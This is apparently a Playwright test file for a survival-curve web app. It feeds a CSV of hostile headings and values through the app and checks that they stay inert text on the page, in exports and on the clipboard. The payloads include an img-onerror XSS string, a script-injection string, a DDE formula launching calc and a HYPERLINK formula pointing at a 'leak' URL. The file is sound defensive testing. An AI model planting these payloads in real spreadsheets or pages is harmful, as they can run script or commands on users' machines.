// @ts-check
// A spreadsheet whose headings and values are markup, script and formulas: inert on the page, in every
// export and on the clipboard.

import assert from "node:assert/strict";
import {copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from "node:fs";
import {createRequire} from "node:module";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {after, before, test} from "node:test";
import {launch, open, ready} from "./chromium.mjs";
import {choose, download, openFile, section, step} from "./walk.mjs";

const Papa = createRequire(import.meta.url)("papaparse");

/** Runs where anything of it is taken for markup. */
const HEADING = '<img src=x onerror="globalThis.hit=1">';
const FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak","click")';
const SCRIPT = "'\"></text></svg><script>globalThis.hit=1</script>";
const PATIENTS = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "=cmd|' /C calc'!A0", FORMULA, SCRIPT];
const TITLE = `Overall survival by ${HEADING}`;

const folder = mkdtempSync(join(tmpdir(), "oncurve-"));
const FILE = join(folder, "hostile.csv");
const rows = PATIENTS.map((patient, i) => {
  // The formula and the script are excluded, so that exports name them.
  const time = i < 6 ? 1.5 + i : "";
  return [patient, time, i % 3 === 0 ? 0 : 1, i % 2 === 0 ? FORMULA : SCRIPT, ["CR", "SD", "PD"][i % 3]];
});
writeFileSync(FILE, Papa.unparse([["patient", "OS_months", "OS_event", HEADING, "response"], ...rows]));

/** @type {import("playwright-core").Browser} */
let browser;
before(async () => {
  browser = await launch();
});
after(async () => {
  await browser.close();
  rmSync(folder, {recursive: true});
});

/** Whether the script ran, and what of its markup became elements, in all shadow trees. */
const harm = () => {
  /** @type {string[]} */
  const elements = [];
  const look = (/** @type {ParentNode} */ root) => {
    for (const element of root.querySelectorAll("*")) {
      if (element.matches('img[src="x"], a[href*="127.0.0.1"], [onerror]')) elements.push(element.outerHTML);
      if (element.localName === "script" && element.textContent === "globalThis.hit=1")
        elements.push("script");
      if (element.shadowRoot) look(element.shadowRoot);
    }
  };
  look(document);
  return {hit: /** @type {any} */ (globalThis).hit, elements};
};
const NONE = {hit: undefined, elements: []};

test("the harm is seen where markup is taken for markup", async () => {
  const naive = join(folder, "naive.html");
  writeFileSync(naive, `<!doctype html><body>${HEADING}<a href="http://127.0.0.1:9/?leak">click</a>`);
  const {page, close} = await open(browser, naive);
  await page.waitForFunction(() => "hit" in globalThis);
  const {hit, elements} = await page.evaluate(harm);
  assert.deepEqual([hit, elements.length], [1, 2]);
  await close();
});

/**
 * The hostile file, opened and analysed by its hostile column.
 * @param {(page: import("playwright-core").Page, analysed: import("playwright-core").Locator) => Promise<void>} look
 */
async function analysed(look) {
  const context = {permissions: ["clipboard-read", "clipboard-write"]};
  const {page, requests, complaints, close} = await open(browser, undefined, context);
  await ready(page);
  await openFile(page, FILE);
  assert.ok(await page.getByText(HEADING).first().isVisible(), "the heading is shown as text");
  assert.deepEqual(await page.evaluate(harm), NONE, "data");
  await step(page, "Columns");
  await page.getByText(HEADING).first().waitFor({state: "attached"});
  assert.deepEqual(await page.evaluate(harm), NONE, "columns");
  await step(page, "Results");
  await look(page, await section(page, TITLE));
  assert.deepEqual(await page.evaluate(harm), NONE, "results");
  assert.deepEqual({requests, complaints}, {requests: [], complaints: []});
  await close();
}

/**
 * Opens an export as a file without any policy.
 * @param {string} path
 */
async function exported(path) {
  const {page, requests, close} = await open(browser, path);
  await page.waitForTimeout(200);
  assert.deepEqual(await page.evaluate(harm), NONE, path);
  assert.deepEqual(requests, [], path);
  const text = await page.evaluate(() => document.documentElement.textContent);
  await close();
  return text ?? "";
}

test("hostile headings and values are text on the page and in saved pages and figures", async () => {
  await analysed(async (page, found) => {
    const html = await download(page, folder, () => choose(page, found, "Export", "Web page"));
    const text = await exported(html.path);
    for (const part of [HEADING, FORMULA, SCRIPT]) assert.ok(text.includes(part), `${part} in the page`);
    const svg = await download(page, folder, () => choose(page, found, "Save figure", "SVG"));
    const drawn = await exported(svg.path);
    for (const part of [FORMULA, SCRIPT]) assert.ok(drawn.includes(part), `${part} in the figure`);
    // The same text as an HTML parser would take it.
    const renamed = join(folder, "figure.html");
    copyFileSync(svg.path, renamed);
    await exported(renamed);
  });
});

const STARTS_A_FORMULA = /^[=+\-@\t\r]/;

test("no cell of a saved table starts a formula", async () => {
  assert.ok(PATIENTS.slice(0, 7).every((patient) => STARTS_A_FORMULA.test(patient)));
  await analysed(async (page, found) => {
    const csv = await download(page, folder, () => choose(page, found, "Export", "Tables"));
    const cells = Papa.parse(readFileSync(csv.path, "utf8").replace(/^\uFEFF/, "")).data.flat();
    assert.deepEqual(
      cells.filter((/** @type {unknown} */ cell) => STARTS_A_FORMULA.test(String(cell))),
      [],
    );
    assert.ok(
      cells.some((/** @type {unknown} */ cell) => String(cell).includes(FORMULA)),
      "the group is named",
    );
  });
});

test("no cell of a copied table starts a formula, and its markup is text", async () => {
  await analysed(async (page, found) => {
    await found
      .getByRole("button", {name: /^Copy (the )?table/})
      .first()
      .click();
    const [html, text] = await page.evaluate(async () => {
      const [item] = await navigator.clipboard.read();
      const read = async (/** @type {string} */ type) => (await item.getType(type)).text();
      return [await read("text/html"), await read("text/plain")];
    });
    const cells = text.split(/[\t\n]/);
    assert.deepEqual(
      cells.filter((/** @type {string} */ cell) => /^[=+\-@]/.test(cell)),
      [],
    );
    assert.ok(text.includes(FORMULA), "the group is named");
    const pasted = join(folder, "pasted.html");
    writeFileSync(pasted, `<!doctype html><meta charset="utf-8">${html}`);
    assert.ok((await exported(pasted)).includes(SCRIPT));
  });
});
